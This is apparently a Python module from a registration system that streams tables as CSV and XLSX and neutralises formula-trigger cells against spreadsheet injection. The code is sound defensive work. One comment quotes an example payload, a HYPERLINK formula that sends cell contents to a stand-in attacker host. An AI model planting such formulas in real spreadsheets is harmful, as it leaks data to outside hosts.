"""Tables written for spreadsheet programs: CSV (UTF-8 with a byte-order mark) and XLSX (streamed), with every text
cell neutralised so that nothing typed into the centre becomes a formula in somebody's spreadsheet."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

# A spreadsheet takes a cell that begins with one of these as a formula (or, for tab and carriage return, shifts
# it into one): a candidate named =HYPERLINK("http://evil.example/?x="&A1,"Click") would be a live link in the
# administrator's spreadsheet. OWASP's CSV injection guidance: prefix such a cell with a single quote.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A text cell as a spreadsheet shows it as text; numbers, dates and None unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_chunks(columns: list[str], data: Iterator[list[Any]], rows_per_chunk: int = 500) -> Iterator[bytes]:
    """UTF-8 with a byte-order mark, so that spreadsheet programs read the Kazakh letters right; given a few hundred
    rows at a time, so that a long table can be streamed."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    buffer.write("\ufeff")
    writer.writerow(columns)
    for index, row in enumerate(data, start=1):
        writer.writerow([neutralise(value) for value in row])
        if index % rows_per_chunk == 0:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode("utf-8")


def to_csv(columns: list[str], data: Iterator[list[Any]]) -> bytes:
    return b"".join(csv_chunks(columns, data))


def to_xlsx(columns: list[str], data: Iterator[list[Any]]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES

    workbook = Workbook(write_only=True)  # rows are streamed to the file, not kept as cells
    sheet = workbook.create_sheet("register")
    sheet.append(columns)

    def cell(value: Any) -> Any:
        # openpyxl writes a string that begins with "=" as a formula (none is left once neutralised) and one that
        # reads "#N/A", "#REF!"... as an error value: those few become text cells explicitly
        value = neutralise(value)
        if isinstance(value, str) and value in ERROR_CODES:
            text = WriteOnlyCell(sheet, value)
            text.data_type = "s"
            return text
        return value

    for row in data:
        sheet.append([cell(value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
